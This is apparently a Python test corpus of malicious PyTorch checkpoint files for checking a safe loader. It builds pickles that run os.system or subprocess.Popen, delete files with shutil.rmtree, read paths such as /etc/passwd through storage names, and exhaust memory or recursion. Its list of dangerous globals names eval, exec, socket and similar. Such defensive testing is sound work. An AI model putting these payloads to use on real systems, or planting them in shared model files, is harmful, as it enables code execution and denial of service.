"""Pickles with calls, with false tensor offsets, and with endless structures."""

import argparse
import collections
import os
import pickle
import shutil
import struct
import subprocess
from collections.abc import Callable
from pathlib import Path

import torch

from attacks.corpus import attack, attacks, with_pickle


class Calls:
    """Pickles as a call of a function."""

    def __init__(self, function: Callable, *arguments: object) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple:
        return self.call


FLAG = "touch PWNED"

# Each opcode that calls or looks up a name; the name is on the stack or in the opcode.
SYSTEM = b"cos\nsystem\n"
ARGUMENT = b"X" + struct.pack("<I", len(FLAG)) + FLAG.encode()
OPCODES = {
    "GLOBAL": SYSTEM + b".",
    "REDUCE": SYSTEM + ARGUMENT + b"\x85R.",
    "INST": b"(" + ARGUMENT + b"ios\nsystem\n.",
    "OBJ": b"(" + SYSTEM + ARGUMENT + b"o.",
    "NEWOBJ": SYSTEM + ARGUMENT + b"\x85\x81.",
    "NEWOBJ_EX": SYSTEM + ARGUMENT + b"\x85}\x92.",
    "STACK_GLOBAL": b"\x8c\x02os\x8c\x06system\x93" + ARGUMENT + b"\x85R.",
    "BUILD": b"cargparse\nNamespace\n)R" + SYSTEM + b"b.",
    "BUILD of slots": b"ccollections\nOrderedDict\n)RN}X\x01\x00\x00\x00aNs\x86b.",
    "EXT1": b"\x82\x01.",
    "EXT2": b"\x83\x01\x00.",
    "EXT4": b"\x84\x01\x00\x00\x00.",
    "PERSID": b"Pos.system\n.",
    "BINPERSID": SYSTEM + b"Q.",
    "NEXT_BUFFER": b"\x97.",
    "READONLY_BUFFER": b"\x97\x98.",
    "a call of a tensor's storage": b"ctorch\nFloatStorage\n" + ARGUMENT + b"\x85R.",
    "a call of a type": b"cbuiltins\nint\n" + ARGUMENT + b"\x85R.",
    "a call of a call": b"ccollections\nOrderedDict\n)R)R.",
    "a chain of calls": b"cbuiltins\ngetattr\n(cos\n__dict__\nX\x06\x00\x00\x00systemtR"
    + ARGUMENT
    + b"\x85R.",
}
attacks(
    "pth", {f"opcode {name}": b"\x80\x04" + data for name, data in OPCODES.items()}, with_pickle
)

GLOBALS = [
    "os system", "posix system", "nt system", "subprocess Popen", "builtins eval", "builtins exec",
    "builtins getattr", "builtins open", "builtins __import__", "builtins compile", "builtins type",
    "builtins object", "__builtin__ eval", "__builtin__ apply", "commands getoutput",
    "importlib import_module", "runpy run_path", "pickle loads", "_pickle loads", "marshal loads",
    "types CodeType", "types FunctionType", "functools partial", "operator attrgetter",
    "operator methodcaller", "ctypes CDLL", "socket socket", "shutil rmtree", "webbrowser open",
    "copyreg _reconstructor", "copy_reg _reconstructor", "code InteractiveInterpreter",
    "timeit timeit", "pdb run", "pip main", "numpy load", "numpy.f2py.crackfortran getlincoef",
    "numpy.testing._private.utils runstring", "torch load", "torch.hub load", "torch.jit load",
    "torch.serialization load", "torch._utils _import_dotted_name", "torch.nn Module",
    "torch.storage _load_from_bytes", "torch._utils _rebuild_tensor_v2.__globals__",
    "torch._utils __builtins__", "collections OrderedDict.__reduce__", "collections abc",
    "argparse _sys.modules", "argparse ArgumentParser", "pathlib Path", "pathlib os.system",
    "pathlib PosixPath.touch", "types SimpleNamespace.__class__", "_codecs decode",
    "_codecs lookup", "OS system", "os  system", "\u043es system", "os.path os.system",
    "os system ",
]  # fmt: skip


def of_global(folder: Path, name: str) -> Path:
    module, _, attribute = name.partition(" ")
    short = [b"\x8c" + bytes([len(text.encode())]) + text.encode() for text in (module, attribute)]
    return with_pickle(folder, b"\x80\x04" + b"".join(short) + b"\x93" + ARGUMENT + b"\x85R.")


attacks("pth", {f"global {name!r}": name for name in GLOBALS}, of_global)

WHERE = {
    "at the top": lambda evil: evil,
    "beside the model": lambda evil: {"model": {"a": torch.zeros(2)}, "epoch": evil},
    "as a tensor": lambda evil: {"model": {"a": torch.zeros(2), "b": evil}},
    "as a key": lambda evil: {"model": {evil: 1}},
    "in the arguments": lambda evil: {
        "model": {"a": torch.zeros(2)},
        "args": argparse.Namespace(a=[{"b": evil}]),
    },
    "in metadata": lambda evil: collections.OrderedDict(a=torch.zeros(2), _metadata=evil),
}


def of_value(folder: Path, value: object) -> Path:
    torch.save(value, folder / "x.pth")
    return folder / "x.pth"


attacks("pth", {f"a call {n}": make(Calls(os.system, FLAG)) for n, make in WHERE.items()}, of_value)
attacks(
    "pth",
    {
        "a subprocess that is started": Calls(subprocess.Popen, ["touch", "PWNED"]),
        "a call in a call": Calls(collections.OrderedDict, [("a", Calls(os.system, FLAG))]),
        "a file removed": Calls(shutil.rmtree, "PWNED"),
        "a whole model": torch.nn.Linear(2, 2),
    },
    of_value,
)


def of_legacy(folder: Path, data: bytes) -> Path:
    (folder / "x.pth").write_bytes(data)
    return folder / "x.pth"


attacks(
    "pth",
    {
        f"a bare pickle of protocol {protocol}": pickle.dumps(Calls(os.system, FLAG), protocol)
        for protocol in range(6)
    },
    of_legacy,
)
MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
attacks(
    "pth",
    {
        "a call in the information of an old file": MAGIC + pickle.dumps(Calls(os.system, FLAG), 2),
        "a call behind the keys of an old file": MAGIC
        + pickle.dumps({}, 2) * 2
        + pickle.dumps(Calls(os.system, FLAG), 2),
        "an old file whose keys are lists": MAGIC
        + pickle.dumps({}, 2) * 2
        + pickle.dumps([["0"]], 2),
        "an old file without an end": MAGIC,
    },
    of_legacy,
)


def of_tensor(
    shape: str, strides: str, offset: object = 0, key: str = "0", count: object = 2
) -> bytes:
    """Return a text pickle of one tensor over a storage of `count` float32."""
    storage = f"(S'storage'\nctorch\nFloatStorage\nS'{key}'\nS'cpu'\nL{count}L\ntQ"
    places = [f"({''.join(f'L{n}L' + chr(10) for n in p.split())}t" for p in (shape, strides)]
    rebuilt = f"ctorch._utils\n_rebuild_tensor_v2\n({storage}L{offset}L\n{''.join(places)}I00\nNtR"
    return f"\x80\x02(dS'a'\n{rebuilt}s.".encode("latin-1")


BIG = 1 << 62
LYING = {
    "more elements than its storage": of_tensor("3", "1"),
    "a stride beyond its storage": of_tensor("2", "2"),
    "an offset beyond its storage": of_tensor("2", "1", 1),
    "a negative offset": of_tensor("1", "1", -1),
    "a negative stride": of_tensor("2", "-1", 1),
    "a negative extent": of_tensor("-1 -2", "1 1"),
    "an offset that overflows": of_tensor("2", "1", (1 << 64) - 1),
    "a stride that overflows": of_tensor("2", str(BIG)),
    "strides that sum to an overflow": of_tensor("3 3", f"{BIG} {BIG}"),
    "an extent that overflows": of_tensor(str(1 << 64), "0"),
    "extents that multiply to an overflow": of_tensor(f"{1 << 32} {1 << 32}", "0 0"),
    "extents that multiply to zero": of_tensor(f"0 {BIG}", "1 1"),
    "one element meant 10^10 times": of_tensor("100000 100000", "0 0"),
    "one element meant 10^7 times": of_tensor("10000000", "0"),
    "fewer strides than extents": of_tensor("1 2", "1"),
    "a rank of 100": of_tensor("1 " * 100, "1 " * 100),
    "a storage of more bytes than its record": of_tensor("2", "1", count=3),
    "a storage of 2^62 elements": of_tensor("2", "1", count=BIG),
    "a storage of -2 elements": of_tensor("2", "1", count=-2),
    "a storage that is missing": of_tensor("2", "1", key="7"),
    "a storage named ../data.pkl": of_tensor("2", "1", key="../data.pkl"),
    "a storage named /etc/passwd": of_tensor("2", "1", key="/etc/passwd"),
}
attacks("pth", {f"a tensor with {name}": data for name, data in LYING.items()}, with_pickle)


def copies(item: bytes, maker: bytes, times: int) -> bytes:
    """Return a pickle that creates copies of one value, each with a few bytes."""
    return b"\x80\x04" + item + b"q\x000](" + (maker + b"h\x00\x85R") * times + b"e."


NUMBERS = b"](" + b"".join(b"M" + struct.pack("<H", n) for n in range(20_000)) + b"e"
TEXT = b"X" + struct.pack("<I", 1 << 20) + b"a" * (1 << 20)
ENDLESS = {
    "2^200 leaves": b"]" + b"(22e" * 200 + b".",
    "2^200 leaves as a key": b"}" + b"N" + b"2\x86" * 200 + b"Ns.",
    "2,000 copies of a set": copies(NUMBERS, b"cbuiltins\nset\n", 2_000),
    "2,000 copies of a text": copies(TEXT, b"c_codecs\nencode\n", 2_000),
    "2,000 copies of a mapping": copies(
        b"}(" + b"".join(b"M" + struct.pack("<H", n) + b"N" for n in range(20_000)) + b"u",
        b"ccollections\nOrderedDict\n",
        2_000,
    ),
    "2,000 filled namespaces": b"\x80\x04}("
    + b"".join(b"M" + struct.pack("<H", n) + b"N" for n in range(20_000))
    + b"uq\x000]("
    + b"cargparse\nNamespace\n)Rh\x00b" * 2_000
    + b"e.",
    "a set of 10^12 numbers": b"cbuiltins\nset\n(cbuiltins\nrange\n(L1000000000000L\ntRtR.",
    "10^12 bytes": b"cbuiltins\nbytearray\n(L1000000000000L\ntR.",
    "an array of 10^9 numbers a piece": b"cnumpy\ndtype\n(S'(1000000000,)f8'\ntR.",
    "lists in lists, 20,000 deep": b"]" * 20_000 + b"a" * 19_999 + b".",
    "tuples in tuples, 20,000 deep": b")" + b"\x85" * 20_000 + b".",
    "a list in itself": b"]q\x00h\x00a.",
    "a mapping in itself": b"}q\x00X\x05\x00\x00\x00modelh\x00s.",
    "a number of 10^6 digits": b"I" + b"9" * 1_000_000 + b"\n.",
    "a number of 2^31 bytes": b"\x8b" + struct.pack("<I", 1 << 31) + b"x.",
    "a text of 2^32 bytes": b"X\xff\xff\xff\xffx.",
    "a text of 2^63 bytes": b"\x8d" + struct.pack("<Q", 1 << 63) + b"x.",
    "bytes of 2^63 bytes": b"\x8e" + struct.pack("<Q", (1 << 63) - 1) + b"x.",
    "a large memo index": b"Nr\xff\xff\xff\xff.",
    "an unset memo index": b"j\xff\xff\xff\xff.",
    "marks only": b"(" * 100_000 + b".",
    "no end": b"N" * 100_000,
    "nothing": b"",
    "a line without an end": b"c" + b"a" * 3_000_000,
}
attacks("pth", ENDLESS, with_pickle)


@attack("pth", "an array of objects")
def _(folder: Path) -> Path:
    import numpy as np

    array = np.array([Calls(os.system, FLAG)], dtype=object)
    return of_value(folder, {"model": {"a": torch.zeros(2)}, "args": {"a": array}})
